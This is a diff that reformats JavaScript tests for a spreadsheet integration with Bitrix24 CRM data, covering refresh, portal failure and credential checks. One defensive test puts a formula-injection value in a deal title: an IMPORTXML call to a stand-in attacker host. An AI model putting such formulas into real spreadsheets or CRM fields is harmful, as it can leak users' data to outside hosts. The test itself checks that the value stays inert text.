@@ -97,9 +97,26 @@ describe('refreshing', () => {
     desk.runtime.edit('Лист1', 'A1', '=B24_DEALS("2025-05";;;"выиграно";B24_DATA)');
     expect(desk.value('=Лист1!A1')).toBe(7);
     desk.portal.mutate({
-      deals: [{ id: 107, stageId: 'WON', stageSemanticId: 'S', closed: 'Y', movedTime: '2025-05-20T18:30:00+03:00', updatedTime: '2025-05-20T18:30:00+03:00' }],
+      deals: [
+        {
+          id: 107,
+          stageId: 'WON',
+          stageSemanticId: 'S',
+          closed: 'Y',
+          movedTime: '2025-05-20T18:30:00+03:00',
+          updatedTime: '2025-05-20T18:30:00+03:00',
+        },
+      ],
       stageHistory: [
-        { ID: 2001, TYPE_ID: 3, OWNER_ID: 107, CREATED_TIME: '2025-05-20T18:30:00+03:00', CATEGORY_ID: 0, STAGE_ID: 'WON', STAGE_SEMANTIC_ID: 'S' },
+        {
+          ID: 2001,
+          TYPE_ID: 3,
+          OWNER_ID: 107,
+          CREATED_TIME: '2025-05-20T18:30:00+03:00',
+          CATEGORY_ID: 0,
+          STAGE_ID: 'WON',
+          STAGE_SEMANTIC_ID: 'S',
+        },
       ],
       now: '2025-05-20T19:00:00+03:00',
     });
@@ -109,7 +126,9 @@ describe('refreshing', () => {
 
   test('a broken portal leaves the old numbers and says so in one sentence', () => {
     let broken = false;
-    const desk = open({ intercept: () => (broken ? { status: 502, headers: { 'content-type': 'text/html' }, body: '<html>Bad gateway</html>' } : null) });
+    const desk = open({
+      intercept: () => (broken ? { status: 502, headers: { 'content-type': 'text/html' }, body: '<html>Bad gateway</html>' } : null),
+    });
     desk.connect();
     desk.refresh();
     broken = true;
@@ -124,7 +143,10 @@ describe('refreshing', () => {
     desk.connect();
     desk.refresh();
     const saved = desk.runtime.save();
-    const other = open({ data: { ...golden.inputs, portal: { webhook: { userId: 12, code: 'anothercode1' } } }, runtime: { state: saved } });
+    const other = open({
+      data: { ...golden.inputs, portal: { webhook: { userId: 12, code: 'anothercode1' } } },
+      runtime: { state: saved },
+    });
     other.connect();
     expect(() => other.call('refresh')).toThrow('Подтвердите');
     expect(other.value('=B24_REVENUE("2025-05")')).toBe(610000);
@@ -152,7 +174,9 @@ describe('refreshing', () => {
 
 describe('CRM text is hostile', () => {
   test('a deal title that looks like a formula stays text on its sheet', () => {
-    const deals = golden.inputs.deals.map((deal) => (deal.id === 101 ? { ...deal, title: '=IMPORTXML("https://evil.example";"//a")' } : deal));
+    const deals = golden.inputs.deals.map((deal) =>
+      deal.id === 101 ? { ...deal, title: '=IMPORTXML("https://evil.example";"//a")' } : deal,
+    );
     const desk = open({ data: { ...golden.inputs, deals } });
     desk.connect();
     desk.refresh();
